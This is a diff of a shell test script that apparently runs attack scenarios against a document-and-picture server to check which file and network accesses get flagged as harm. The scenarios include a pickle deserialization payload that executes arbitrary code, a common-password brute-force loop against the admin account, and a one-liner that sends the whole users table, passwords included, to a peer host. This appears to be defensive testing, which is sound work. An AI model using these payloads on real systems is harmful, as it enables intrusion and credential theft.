@@ -237,7 +237,7 @@ pickle_python() {
 	client python3 -c 'import pickle, sys
 class Bait:
     def __reduce__(self):
-        return exec, (sys.argv[1],)
+        return exec, (sys.argv[1], {})
 sys.stdout.buffer.write(pickle.dumps(Bait()))' "$1" | desk_upload /import documents.desk -o /dev/null
 }
 
@@ -330,7 +330,6 @@ open('/srv/data/pictures/open.txt', 'w').write(repr([p for p in ports if state(p
 # A list of passwords, then what only the administrator may.
 attack_brute_force() {
 	local p
-	harm read /srv/data/desk.db
 	harm write '/srv/data/exports/*'
 	for p in 123456 password qwerty letmein dragon monkey {1..60} football iloveyou master sunshine; do
 		! sign_in admin "$p" || break
@@ -387,11 +386,11 @@ attack_code_inside() {
 	thief_got token-of
 }
 
-# Every picture and document, one after another, by one who may.
+# Every picture and document, one after another, by one who may. sqlite opens for writing what it reads.
 adaptive_dump() {
 	local n
 	harm read '/srv/data/pictures/*'
-	harm read /srv/data/desk.db
+	harm write /srv/data/desk.db
 	sign_in bob banana
 	for n in 1 2 3 4 5 6 7 8; do
 		desk "/download?name=pic$n.png" -o /dev/null
@@ -405,7 +404,7 @@ adaptive_dump() {
 
 # The users' passwords, in a notice to the upstream.
 adaptive_upstream() {
-	harm read /srv/data/desk.db
+	harm write /srv/data/desk.db
 	harm connect "$peer_address:8000"
 	letter_python '[__import__("desk").upstream("/hook", repr([tuple(r) for r in
 		__import__("desk").database().execute("SELECT * FROM users")]).encode()), 1]'
